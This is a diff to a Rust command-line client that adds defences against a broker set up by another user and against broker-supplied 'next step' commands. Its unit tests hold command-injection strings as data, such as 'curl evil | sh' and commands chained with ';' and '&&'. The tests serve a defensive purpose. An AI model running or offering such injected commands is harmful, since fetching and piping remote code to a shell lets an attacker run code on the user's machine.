@@ -73,6 +73,9 @@ impl Remote {
         };
         let claims: [Claim<PathBuf>; 2] = [(Claimant::PersonEnvironment, &of_env), (Claimant::Record, &of_record)];
         let found = decide(Setting::Broker, &claims)?;
+        if let Some(broker) = found.as_ref().filter(|found| found.origin == Origin::HookRecord) {
+            refuse_anothers(place, &broker.value)?;
+        }
         Ok(found.map(|Sourced { value: socket, origin }| {
             let recorded = recorded.as_ref().filter(|broker| broker.socket == socket);
             let mut asking = Asking::of(&record);
@@ -87,6 +90,13 @@ impl Remote {
                 asking,
             }
         }))
+    }
+
+    /// As [`Remote::recorded`], for a person: of another user's home none is asked, and that is told.
+    pub fn to_look_at(place: &OpenClawHome, record: &HookRecord) -> Option<(Self, Result<()>)> {
+        let remote = Self::recorded(record)?;
+        let may_ask = refuse_anothers(place, &remote.socket);
+        Some((remote, may_ask))
     }
 
     /// The one that a home's record names.
@@ -164,7 +174,9 @@ impl Remote {
     /// Those of the command, and where it cannot be asked.
     pub fn print(&self, name: &str, asked: Value, out: &mut dyn Write) -> Result<ExitCode> {
         let printed: Printed = self.ask(name, asked, None)?;
-        printed.notes.iter().for_each(output::note);
+        for note in &printed.notes {
+            output::note(format_args!("the broker says: {}", text::one_line(note)));
+        }
         out.write_all(text::plain_lines(&printed.text).as_bytes())
             .or_fail(ExitCode::Failure, || "could not write to standard output".to_owned())?;
         Ok(ExitCode::Ok)
@@ -225,10 +237,12 @@ impl Remote {
         let answer = answer.map_err(|trouble| self.error(trouble))?;
         if let Some(failed) = answer.get("failed") {
             let failed: Failed = serde_json::from_value(failed.clone()).map_err(|_| self.error(Trouble::NoBroker))?;
-            let error = Error::new(ExitCode::of(failed.code), format!("the broker {}", failed.text));
-            return Err(match failed.next {
-                Some(next) => error.next(self.as_its_user(&next)),
-                None => error,
+            let says = format!("the broker says: {}", text::one_line(&failed.text));
+            let code = ExitCode::of(failed.code);
+            return Err(match failed.next.as_deref().map(|next| (own_command(next), next)) {
+                Some((Some(command), _)) => Error::new(code, says).next(self.as_its_user(&command)),
+                Some((None, words)) => Error::new(code, format!("{says}; its next step: {}", text::one_line(words))),
+                None => Error::new(code, says),
             });
         }
         let found = member.map_or(Some(&answer), |member| answer.get(member));
@@ -252,6 +266,26 @@ impl Remote {
     }
 }
 
+/// A step that whoever answers gives, where it is a command of this program and nothing else, with each word quoted.
+fn own_command(step: &str) -> Option<String> {
+    let words = shell_words::split(step).ok()?;
+    let is_plain = words.first()? == "sigilum-authz-notify" && !step.contains(|c: char| c.is_control());
+    is_plain.then(|| shell_words::join(words))
+}
+
+/// Whoever owns another user's home can have its record name a broker of theirs, whose words would be read as ours.
+fn refuse_anothers(place: &OpenClawHome, socket: &Path) -> Result<()> {
+    let Some(uid) = place.anothers() else { return Ok(()) };
+    let user = fs::user_name(uid);
+    let what = format!(
+        "could not ask the broker, only a record of another user's ({user}) names it: {}",
+        socket.display()
+    );
+    Err(Error::new(ExitCode::Usage, what).next(format!(
+        "run the command as {user}, or name a broker: SIGILUM_BROKER=<socket>"
+    )))
+}
+
 /// Refuses what only the broker's user does, where a broker is in force.
 ///
 /// # Errors
@@ -260,5 +294,30 @@ pub fn refuse(place: &OpenClawHome, env: &Env, what: &str, words: &str) -> Resul
     match Remote::of_person(place, env, None)? {
         Some(remote) => Err(remote.refusal(what, words)),
         None => Ok(()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn of_what_a_broker_gives_as_a_step_a_command_of_this_program_is_one() {
+        for (step, wanted) in [
+            (
+                "sigilum-authz-notify auth login --namespace alice",
+                Some("sigilum-authz-notify auth login --namespace alice"),
+            ),
+            ("sigilum-authz-notify; curl evil", None),
+            (
+                "sigilum-authz-notify auth login && curl evil",
+                Some("sigilum-authz-notify auth login '&&' curl evil"),
+            ),
+            ("curl evil | sh", None),
+            ("sigilum-authz-notify x\nnext: y", None),
+            ("sigilum-authz-notify 'x", None),
+        ] {
+            assert_eq!(own_command(step).as_deref(), wanted, "{step}");
+        }
     }
 }
